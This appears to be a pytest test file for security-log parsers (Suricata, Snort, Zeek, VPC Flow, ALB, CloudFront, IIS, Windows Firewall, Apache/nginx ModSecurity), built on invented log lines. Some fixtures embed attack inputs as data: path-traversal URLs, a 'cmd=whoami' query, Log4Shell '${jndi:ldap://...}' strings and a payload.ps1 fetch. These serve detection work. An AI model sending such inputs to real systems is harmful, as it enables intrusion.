"""Network sensor and cloud/web access log parsers: Suricata/Snort, Zeek, VPC Flow Logs, ALB/CloudFront, W3C
(IIS, Windows Firewall), Apache/nginx error logs. Fixture lines are invented (documentation address ranges)."""
from datetime import datetime, timezone

import pytest

from detectors.parsers import awsweb, suricata, vpcflow, w3c, weberror, zeek


def utc(*args):
    return datetime(*args, tzinfo=timezone.utc).timestamp()


# --- Suricata --------------------------------------------------------------------------------------------------
def test_suricata_eve_alert():
    doc = {"timestamp": "2024-05-01T10:00:00.250000+0000", "event_type": "alert", "src_ip": "203.0.113.7",
           "src_port": 40000, "dest_ip": "192.0.2.10", "dest_port": 80, "proto": "TCP", "app_proto": "http",
           "alert": {"action": "allowed", "gid": 1, "signature_id": 2034125, "rev": 4, "severity": 1,
                     "signature": "ET EXPLOIT Path Traversal", "category": "Attempted Administrator Privilege Gain"},
           "http": {"hostname": "www.example.com", "url": "/cgi-bin/.%2e/.%2e/bin/sh", "http_method": "POST",
                    "http_user_agent": "curl/8.0", "status": 400}}
    assert suricata.match(doc)
    [ev] = suricata.from_doc(doc)
    assert ev["source.ip"] == "203.0.113.7" and ev["destination.port"] == 80 and ev["network.transport"] == "tcp"
    assert ev["rule.name"] == "ET EXPLOIT Path Traversal" and ev["rule.id"] == "2034125"
    assert ev["alert.signature"] == "ET EXPLOIT Path Traversal"  # flattened original
    assert ev["event.category"] == "intrusion_detection" and ev["event.action"] == "allowed"
    assert ev["url.original"] == "/cgi-bin/.%2e/.%2e/bin/sh" and ev["http.response.status_code"] == 400
    assert ev["_ts"] == utc(2024, 5, 1, 10, 0, 0) + 0.25
    assert ev["_logsource"] == {"product": "suricata", "category": "ids"}


def test_suricata_eve_dns_http_tls_fileinfo():
    base = {"timestamp": "2024-05-01T10:00:00.000000-0400", "src_ip": "192.0.2.5", "src_port": 5353,
            "dest_ip": "198.51.100.53", "dest_port": 53, "proto": "UDP"}
    [dns] = suricata.from_doc({**base, "event_type": "dns", "dns": {"type": "query", "rrname": "evil.example",
                                                                     "rrtype": "TXT"}})
    assert dns["dns.question.name"] == "evil.example" and dns["query"] == "evil.example"
    assert dns["_logsource"] == {"product": "suricata", "service": "dns", "category": "dns"}
    assert dns["_ts"] == utc(2024, 5, 1, 14, 0, 0)
    [v3] = suricata.from_doc({**base, "event_type": "dns", "dns": {"version": 3, "queries": [{"rrname": "a.example"}]}})
    assert v3["dns.question.name"] == "a.example"
    [http] = suricata.from_doc({**base, "event_type": "http", "http": {"hostname": "dl.example", "url": "/a.exe?x=1",
                                                                       "http_method": "GET",
                                                                       "http_user_agent": "Wget/1.0"}})
    assert http["user_agent.original"] == http["c-useragent"] == "Wget/1.0" and http["url.query"] == "x=1"
    assert http["cs-host"] == "dl.example" and http["_logsource"]["category"] == "proxy"
    [tls] = suricata.from_doc({**base, "event_type": "tls", "tls": {"sni": "c2.example", "version": "TLS 1.3"}})
    assert tls["tls.server_name"] == "c2.example" and tls["_logsource"] == {"product": "suricata", "service": "tls"}
    [fi] = suricata.from_doc({**base, "event_type": "fileinfo", "fileinfo": {"filename": "/dl/a.exe", "size": 10}})
    assert fi["file.name"] == "a.exe" and fi["file.size"] == 10
    assert not suricata.match({"foo": 1}) and suricata.from_doc({"event_type": 3}) == []


def test_fast_log_suricata_and_snort():
    ev = suricata.parse("05/01/2024-10:29:01.860293  [**] [1:2008578:4] ET SCAN Sipvicious Scan [**] "
                        "[Classification: Attempted Information Leak] [Priority: 2] {UDP} 203.0.113.9:5116 -> "
                        "192.0.2.20:5060")
    assert ev["rule.id"] == "2008578" and ev["rule.name"] == "ET SCAN Sipvicious Scan"
    assert ev["source.ip"] == "203.0.113.9" and ev["source.port"] == 5116 and ev["destination.port"] == 5060
    assert ev["network.transport"] == "udp" and ev["event.severity"] == 2
    assert ev["_ts"] == utc(2024, 5, 1, 10, 29, 1) + 0.860293
    assert ev["_logsource"] == {"product": "suricata", "category": "ids"}
    s3 = suricata.parse('12/28-12:55:38.765402 [**] [1:366:11] "PROTOCOL-ICMP PING Unix" [**] [Priority: 3] '
                        '{ICMP} 2001:db8:0:0:0:0:0:35 -> 2001:db8:0:0:0:0:0:8888')
    assert s3["rule.name"] == "PROTOCOL-ICMP PING Unix" and s3["destination.ip"] == "2001:db8:0:0:0:0:0:8888"
    assert "source.port" not in s3 and "rule.category" not in s3 and s3["_logsource"]["product"] == "snort"
    assert datetime.fromtimestamp(s3["_ts"], timezone.utc).month == 12
    v6 = suricata.parse("22/02/04-23:41:31.115933 [**] [1:20035:1000] MALWARE-CNC outbound [**] "
                        "[Classification: X] [Priority: 1] {TCP} 2001:db8:0:0:0:0:0:35:60884 -> "
                        "2001:db8:0:0:0:0:0:88:80")
    assert v6["source.ip"] == "2001:db8:0:0:0:0:0:35" and v6["source.port"] == 60884 and v6["destination.port"] == 80
    assert v6["_ts"] == utc(2022, 2, 4, 23, 41, 31) + 0.115933
    body = suricata.parse("[1:2008578:4] ET SCAN Sipvicious Scan [Classification: Attempted Information Leak] "
                          "[Priority: 2]: <eth0> {UDP} 203.0.113.9:5116 -> 192.0.2.20:5060")  # syslog body
    assert body["rule.id"] == "2008578" and body["destination.port"] == 5060 and "_ts" not in body
    assert suricata.parse("not a fast.log line") is None and not suricata.sniff("hello [**] world")


# --- Zeek ------------------------------------------------------------------------------------------------------
ZEEK_HEADER = ["#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-", "#path\tdns",
               "#open\t2024-05-01-10-00-00",
               "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tquery\tqtype_name\tAA\t"
               "answers\tTTLs\ttags",
               "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tstring\tbool\tvector[string]\t"
               "vector[interval]\tset[string]"]


def test_zeek_tsv_dns():
    ctx = {}
    assert all(zeek.header(line, ctx) for line in ZEEK_HEADER)
    ev = zeek.parse("1714557600.5\tCabc\t192.0.2.5\t50000\t198.51.100.53\t53\tudp\tevil.example\tA\tF\t"
                    "203.0.113.1,203.0.113.2\t60.0,60.0\t(empty)", ctx)
    assert ev["id.orig_h"] == "192.0.2.5" and ev["source.ip"] == "192.0.2.5" and ev["destination.port"] == 53
    assert ev["query"] == ev["dns.question.name"] == "evil.example" and ev["network.transport"] == "udp"
    assert ev["answers"] == ["203.0.113.1", "203.0.113.2"] and ev["TTLs"] == [60.0, 60.0] and ev["tags"] == []
    assert ev["AA"] is False and ev["_ts"] == 1714557600.5
    assert ev["_logsource"] == {"product": "zeek", "service": "dns", "category": "dns"}
    unset = zeek.parse("1714557600.5\tCabc\t192.0.2.5\t50000\t198.51.100.53\t53\tudp\t-\t-\t-\t-\t-\t-", ctx)
    assert "query" not in unset and "dns.question.name" not in unset
    assert not zeek.header("#Fields: date time", {}) and zeek.parse("x\ty", {}) is None
    assert zeek.parse("garbage\tline", ctx) is None
    assert zeek.header("#close\t2024-05-01-11-00-00", ctx)


def test_zeek_json_kinds():
    ssh = {"_path": "ssh", "ts": "2024-05-01T10:00:00.000000Z", "uid": "C1", "id.orig_h": "203.0.113.4",
           "id.orig_p": 40000, "id.resp_h": "192.0.2.22", "id.resp_p": 22, "auth_success": False}
    assert zeek.match(ssh)
    [ev] = zeek.from_doc(ssh)
    assert ev["event.outcome"] == "failure" and ev["_ts"] == utc(2024, 5, 1, 10)
    assert ev["_logsource"] == {"product": "zeek", "service": "ssh"}
    wrapped = {"http": {"ts": 1714557600.0, "uid": "C2", "id.orig_h": "192.0.2.8", "id.orig_p": 50001,
                        "id.resp_h": "198.51.100.80", "id.resp_p": 80, "method": "GET", "host": "dl.example",
                        "uri": "/payload.ps1", "user_agent": "PowerShell/7", "status_code": 200}}
    assert zeek.match(wrapped)
    [http] = zeek.from_doc(wrapped)
    assert http["url.original"] == "/payload.ps1" and http["http.request.method"] == "GET"
    assert http["user_agent.original"] == "PowerShell/7" and http["http.response.status_code"] == 200
    assert http["_logsource"] == {"product": "zeek", "service": "http", "category": "proxy"}
    krb = {"_path": "kerberos", "ts": 1714557600.0, "uid": "C3", "id.orig_h": "192.0.2.9", "id.orig_p": 1,
           "id.resp_h": "192.0.2.1", "id.resp_p": 88, "request_type": "TGS", "client": "alice/EXAMPLE.ORG",
           "success": True}
    [k] = zeek.from_doc(krb)
    assert k["user.name"] == "alice" and k["user.domain"] == "EXAMPLE.ORG" and k["event.outcome"] == "success"
    [ntlm] = zeek.from_doc({"_path": "ntlm", "ts": 1.0, "uid": "C4", "id.orig_h": "192.0.2.9", "username": "bob",
                            "domainname": "CORP", "success": False})
    assert ntlm["user.name"] == "bob" and ntlm["event.outcome"] == "failure"
    [smtp] = zeek.from_doc({"_path": "smtp", "ts": 1.0, "uid": "C5", "mailfrom": "x@example.com"})
    assert smtp["email.from.address"] == "x@example.com"
    [plain] = zeek.from_doc({"ts": 1.0, "uid": "C6", "id.orig_h": "192.0.2.9", "query": "a.example"})
    assert plain["_logsource"]["service"] == "dns"
    assert not zeek.match({"event_type": "alert"})


# --- VPC Flow Logs ---------------------------------------------------------------------------------------------
def test_vpcflow_default_custom_and_nodata():
    ev = vpcflow.parse("2 123456789010 eni-0a1b2c3d 203.0.113.12 192.0.2.139 49761 3389 6 20 4249 1714557600 "
                       "1714557660 REJECT OK")
    assert ev["source.ip"] == "203.0.113.12" and ev["destination.port"] == 3389 and ev["network.transport"] == "tcp"
    assert ev["event.action"] == "deny" and ev["event.outcome"] == "failure" and ev["_ts"] == 1714557600.0
    assert ev["dstport"] == 3389 and ev["dst_port"] == 3389 and ev["source.bytes"] == 4249
    assert ev["_logsource"] == {"product": "aws", "service": "vpcflowlogs", "category": "firewall"}
    nodata = vpcflow.parse("2 123456789010 eni-0a1b2c3d - - - - - - - 1714557600 1714557660 - NODATA")
    assert nodata["log-status"] == "NODATA" and "event.action" not in nodata and "event.outcome" not in nodata
    v5 = vpcflow.parse("5 123456789010 eni-0a1b2c3d 198.51.100.7 192.0.2.80 443 50041 17 52 1 1714557600 "
                       "1714557660 ACCEPT OK vpc-1 subnet-1 i-1 0 IPv4 198.51.100.7 192.0.2.80 us-east-1 use1-az5 "
                       "- - AMAZON - ingress 1")
    assert v5["network.transport"] == "udp" and v5["event.action"] == "allow" and v5["network.direction"] == "ingress"
    assert v5["pkt-src-aws-service"] == "AMAZON" and v5["cloud.region"] == "us-east-1"
    ctx = {}
    assert vpcflow.header("version srcaddr dstaddr dstport action log-status", ctx)
    custom = vpcflow.parse("3 192.0.2.1 192.0.2.2 22 ACCEPT OK", ctx)
    assert custom["destination.port"] == 22 and custom["event.outcome"] == "success"
    assert vpcflow.parse("3 192.0.2.1", ctx) is None and vpcflow.parse("hello world") is None
    assert not vpcflow.header("date time s-ip", {})


# --- ALB / ELB / CloudFront ------------------------------------------------------------------------------------
def test_alb_and_classic_elb():
    line = ('https 2024-05-01T10:00:00.123456Z app/web/abc 203.0.113.50:44740 192.0.2.10:80 0.001 0.002 0.000 '
            '404 404 34 366 "GET https://www.example.com:443/admin/../etc/passwd?x=1 HTTP/1.1" "sqlmap/1.7" '
            'ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:1:targetgroup/t/1 '
            '"Root=1-2-3" "www.example.com" "-" 1 2024-05-01T10:00:00.100000Z "forward" "-" "-" "192.0.2.10:80" '
            '"404" "-" "-"')
    assert awsweb.sniff(line)
    ev = awsweb.parse(line)
    assert ev["source.ip"] == ev["c-ip"] == "203.0.113.50" and ev["source.port"] == 44740
    assert ev["url.original"] == "https://www.example.com:443/admin/../etc/passwd?x=1"
    assert ev["url.path"] == "/admin/../etc/passwd" and ev["url.query"] == "x=1"
    assert ev["cs-uri-query"] == "/admin/../etc/passwd?x=1" and ev["cs-method"] == "GET"
    assert ev["http.response.status_code"] == ev["sc-status"] == 404 and ev["event.outcome"] == "failure"
    assert ev["user_agent.original"] == ev["cs-user-agent"] == "sqlmap/1.7" and ev["http.request.bytes"] == 34
    assert ev["_ts"] == utc(2024, 5, 1, 10) + 0.123456
    assert ev["_logsource"] == {"category": "webserver", "product": "aws", "service": "alb"}
    elb = awsweb.parse('2024-05-01T10:00:00.000000Z my-lb 198.51.100.3:2817 - 0.000073 0.001 0.000057 200 200 0 '
                       '29 "GET http://www.example.com:80/ HTTP/1.1" "curl/8.0" - -')
    assert elb["source.ip"] == "198.51.100.3" and "destination.ip" not in elb and elb["_logsource"]["service"] == "elb"
    assert awsweb.parse("https not-a-time x") is None and awsweb.parse("garbage") is None


CF_FIELDS = ("#Fields: date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) "
             "cs(User-Agent) cs-uri-query")


def test_cloudfront_with_and_without_header():
    row = ["2024-05-01", "10:00:00", "CDG50-P2", "703", "203.0.113.9", "GET", "d1.cloudfront.net", "/login",
           "403", "-", "Mozilla/5.0%20(X11)", "user=admin"]
    ctx = {}
    assert awsweb.header("#Version: 1.0", ctx) and awsweb.header(CF_FIELDS, ctx)
    ev = awsweb.parse("\t".join(row), ctx)
    assert ev["source.ip"] == "203.0.113.9" and ev["cs-uri-stem"] == "/login" and ev["url.query"] == "user=admin"
    assert ev["user_agent.original"] == "Mozilla/5.0 (X11)" and ev["cs(User-Agent)"] == "Mozilla/5.0%20(X11)"
    assert ev["_ts"] == utc(2024, 5, 1, 10) and ev["sc-status"] == 403
    assert ev["_logsource"] == {"category": "webserver", "product": "aws", "service": "cloudfront"}
    full = row + ["-", "Error", "id==", "www.example.com", "https", "62", "0.1", "-", "TLSv1.3", "TLS_AES_128",
                  "Error", "HTTP/2.0", "-", "-", "51754", "0.1", "Error", "text/plain", "20", "-", "-"]
    bare = awsweb.parse("\t".join(full))
    assert bare["url.original"] == "https://www.example.com/login?user=admin" and bare["source.port"] == 51754
    assert not awsweb.header("#Fields: date time s-ip cs-method", {})


# --- W3C: IIS and Windows Firewall -----------------------------------------------------------------------------
def test_iis_w3c():
    ctx = {}
    for h in ("#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0",
              "#Date: 2024-05-01 00:00:00",
              "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
              "cs(Referer) sc-status sc-substatus sc-win32-status time-taken"):
        assert w3c.header(h, ctx)
    ev = w3c.parse("2024-05-01 10:00:00 192.0.2.10 POST /owa/auth.owa cmd=whoami 443  CORP\\alice 203.0.113.77 "
                   "Mozilla/5.0+(Windows+NT+10.0) - 500 0 0 15", ctx)
    assert ev["source.ip"] == ev["c-ip"] == "203.0.113.77" and ev["destination.port"] == 443
    assert ev["user.name"] == "alice" and ev["user.domain"] == "CORP" and ev["cs-username"] == "CORP\\alice"
    assert ev["user_agent.original"] == "Mozilla/5.0 (Windows NT 10.0)"
    assert ev["cs(User-Agent)"] == "Mozilla/5.0+(Windows+NT+10.0)"
    assert ev["cs-uri-query"] == "/owa/auth.owa?cmd=whoami" and ev["url.query"] == "cmd=whoami"
    assert ev["sc-status"] == ev["http.response.status_code"] == 500 and ev["event.outcome"] == "failure"
    assert ev["_ts"] == utc(2024, 5, 1, 10)
    assert ev["_logsource"] == {"category": "webserver", "product": "windows", "service": "iis"}
    nodate = {}
    w3c.header("#Date: 2024-05-02 00:00:00", nodate)
    w3c.header("#Fields: time s-sitename s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
               "cs(User-Agent) sc-status", nodate)
    ev6 = w3c.parse("01:02:03 W3SVC1 192.0.2.10 GET / - 80 - 198.51.100.4 - 200", nodate)
    assert ev6["_ts"] == utc(2024, 5, 2, 1, 2, 3) and ev6["service.name"] == "W3SVC1"
    default = w3c.parse("2024-05-01 10:00:00 192.0.2.10 GET /x.aspx - 80 - 198.51.100.4 curl/8.0 - 404 0 2 1")
    assert default["source.ip"] == "198.51.100.4" and default["sc-status"] == 404
    assert w3c.parse("2024-05-01 10:00:00 too few", ctx) is None and not w3c.header("#fields\tts", {})


def test_windows_firewall_log():
    ctx = {}
    for h in ("#Version: 1.5", "#Software: Microsoft Windows Firewall", "#Time Format: Local",
              "#Fields: date time action protocol src-ip dst-ip src-port dst-port size tcpflags tcpsyn tcpack "
              "tcpwin icmptype icmpcode info path"):
        assert w3c.header(h, ctx)
    ev = w3c.parse("2024-05-01 08:05:57 DROP TCP 203.0.113.5 192.0.2.10 50123 445 52 S 123 0 64240 - - - RECEIVE",
                   ctx)
    assert ev["source.ip"] == "203.0.113.5" and ev["destination.port"] == 445 and ev["network.transport"] == "tcp"
    assert ev["event.action"] == "drop" and ev["event.outcome"] == "failure" and ev["network.direction"] == "inbound"
    assert ev["_ts"] == utc(2024, 5, 1, 8, 5, 57)
    assert ev["_logsource"] == {"product": "windows", "service": "firewall", "category": "firewall"}
    lost = w3c.parse("2024-05-01 08:52:26 INFO-EVENTS-LOST - - - - - - - - - - - - 59 -", ctx)
    assert lost["event.action"] == "info-events-lost" and "source.ip" not in lost
    bare = w3c.parse("2024-05-01 08:05:58 ALLOW UDP 192.0.2.10 198.51.100.53 53000 53 60 - - - - - - - SEND")
    assert bare["event.outcome"] == "success" and bare["network.direction"] == "outbound"


# --- Apache / nginx error logs ---------------------------------------------------------------------------------
def test_apache_error_and_modsecurity():
    ev = weberror.parse('[Wed May 01 10:00:00.009964 2024] [:error] [pid 2560:tid 1404] [client ::1:37752] '
                        '[client ::1] ModSecurity: Warning. Matched phrase "etc/passwd" at ARGS:a. [file "/crs/'
                        'REQUEST-930.conf"] [line "97"] [id "930120"] [msg "OS File Access Attempt"] '
                        '[data "Matched Data: etc/passwd found within ARGS:a"] [severity "CRITICAL"] '
                        '[tag "attack-lfi"] [tag "OWASP_CRS"] [hostname "www.example.com"] [uri "/index.php"] '
                        '[unique_id "YVW7Kji"]')
    assert ev["source.ip"] == "::1" and ev["source.port"] == 37752 and ev["process.pid"] == 2560
    assert ev["rule.id"] == "930120" and ev["rule.name"] == "OS File Access Attempt"
    assert ev["modsec.severity"] == "CRITICAL" and ev["modsec.tag"] == ["attack-lfi", "OWASP_CRS"]
    assert ev["url.original"] == "/index.php" and ev["url.domain"] == "www.example.com"
    assert ev["event.category"] == "intrusion_detection" and ev["_ts"] == utc(2024, 5, 1, 10) + 0.009964
    assert ev["_logsource"] == {"product": "apache", "service": "apache"}
    old = weberror.parse("[Wed Oct 11 14:32:52 2000] [error] [client 192.0.2.1] File does not exist: /var/www/x")
    assert old["source.ip"] == "192.0.2.1" and "source.port" not in old and old["log.level"] == "error"
    assert old["event.category"] == "web" and old["message"] == "File does not exist: /var/www/x"
    v4 = weberror.parse("[Wed May 01 10:00:00.1 2024] [core:error] [pid 1] [client 192.0.2.7:5050] AH00126: Bad")
    assert v4["source.port"] == 5050 and v4["error.code"] == "AH00126"
    body = weberror.parse("[authz_core:error] [pid 9:tid 3] [client 192.0.2.4:5000] AH01630: client denied")
    assert body["source.ip"] == "192.0.2.4" and "_ts" not in body  # ErrorLog syslog: body without timestamp


def test_nginx_error_and_modsecurity():
    ev = weberror.parse('2024/05/01 10:00:00 [error] 972#972: *18722 [client 203.0.113.66] ModSecurity: Access '
                        'denied with code 403 (phase 2). Matched "Operator `Ge\' with parameter `5\'" [file "/x.conf"] '
                        '[id "949110"] [msg "Inbound Anomaly Score Exceeded"] [severity "2"] [uri "/"], client: '
                        '203.0.113.66, server: www.example.com, request: "GET /?x=${jndi:ldap://a.example/a} '
                        'HTTP/1.1", host: "www.example.com:443", referrer: "${jndi:ldap://b.example}"')
    assert ev["source.ip"] == "203.0.113.66" and ev["rule.id"] == "949110" and ev["modsec.severity"] == "CRITICAL"
    assert ev["url.original"] == "/?x=${jndi:ldap://a.example/a}" and ev["http.request.method"] == "GET"
    assert ev["url.domain"] == "www.example.com" and ev["url.port"] == 443
    assert ev["event.action"] == "deny" and ev["http.response.status_code"] == 403
    assert ev["_ts"] == utc(2024, 5, 1, 10) and ev["_logsource"] == {"product": "nginx", "service": "nginx"}
    plain = weberror.parse('2024/05/01 10:00:01 [error] 31#31: *5 open() "/srv/x.php" failed (2: No such file), '
                           'client: 2001:db8::5, server: localhost, request: "GET /x.php HTTP/1.1", host: "h"')
    assert plain["source.ip"] == "2001:db8::5" and plain["message"].startswith("open()")
    assert plain["event.category"] == "web" and "rule.id" not in plain
    assert weberror.sniff("2024/05/01 10:00:01 [notice] 1#1: signal process started")


@pytest.mark.parametrize("mod", [suricata, weberror, awsweb, vpcflow])
def test_malformed_lines_give_none(mod):
    for bad in ("", "garbage", "[Wed Foo 99 99:99:99 2024] [error] x", "2024/13/45 99:99:99 [error] 1#1: x",
                "07/99/2022-10:29:01.860293 [**] [1:2:3] x [**] {TCP} a -> b", "\x00\x01\x02"):
        assert mod.parse(bad) is None


def test_malformed_header_driven_lines_give_none():
    assert w3c.parse("", {}) is None and w3c.parse("2024-05-01 99:99:99 a b c d e f g h i j k l m n", {}) is None
    assert zeek.parse("", {"zeek": {}}) is None and zeek.parse("1.0\tx", {}) is None
    assert zeek.from_doc("not a dict") == [] and suricata.from_doc([]) == []
